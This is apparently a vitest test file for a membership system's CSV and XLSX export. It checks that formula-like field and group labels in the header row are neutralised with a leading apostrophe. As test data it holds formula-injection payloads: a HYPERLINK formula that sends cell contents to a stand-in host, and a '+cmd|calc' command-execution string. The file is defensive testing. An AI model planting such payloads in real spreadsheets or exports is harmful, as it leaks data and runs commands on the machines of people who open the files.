import { beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { testDialect } from '../../test/harness';
import { adminContext } from '../../test/adminContext';
import { makeField } from '../../test/factories';

// The header row carries admins' labels, so it is neutralised against formulas
// exactly like the data cells.
describe(`export header cells (${testDialect})`, () => {
  const { t, admin } = adminContext();

  beforeAll(async () => {
    await makeField(admin, { name: 'linkki', label: '=HYPERLINK("http://x.example/?d="&A2)', type: 'text', visibility: 2 });
    await makeField(admin, { name: 'komento', label: '@SUM(1+1)', type: 'text', visibility: 2 });
    expect((await admin.post('/api/1/groups/new', { name: 'ryhma', label: '+cmd|calc' })).status).toBe(200);
    expect((await admin.post('/api/1/members/new', { firstname: 'Aino', lastname: 'Aalto', email: 'aino@x.fi' })).status).toBe(200);
  });

  const columns = ['linkki', 'komento', 'ryhma'];
  const expected = [`'=HYPERLINK("http://x.example/?d="&A2)`, `'@SUM(1+1)`, `'+cmd|calc`];

  async function tokenUrl(format: string): Promise<string> {
    const tok = await admin.post('/api/1/members/export_token', { filter: [], format, columns });
    expect(tok.status).toBe(200);
    return tok.body.url as string;
  }

  it('neutralises formula-like field and group labels in the csv header', async () => {
    const r = await admin.get(await tokenUrl('csv'));
    expect(r.status).toBe(200);
    const header = String(r.body).slice(1).split('\r\n')[0]!.split(';').slice(-3);
    expect(header.map((h) => h.replace(/^"|"$/g, '').replace(/""/g, '"'))).toEqual(expected);
  });

  it('neutralises them in the xlsx header', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: await tokenUrl('xlsx'),
      headers: { host: admin.host, cookie: [...admin.jar].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const row = wb.worksheets[0]!.getRow(1);
    const values = (row.values as unknown[]).slice(1);
    expect(values.slice(-3)).toEqual(expected);
  });
});
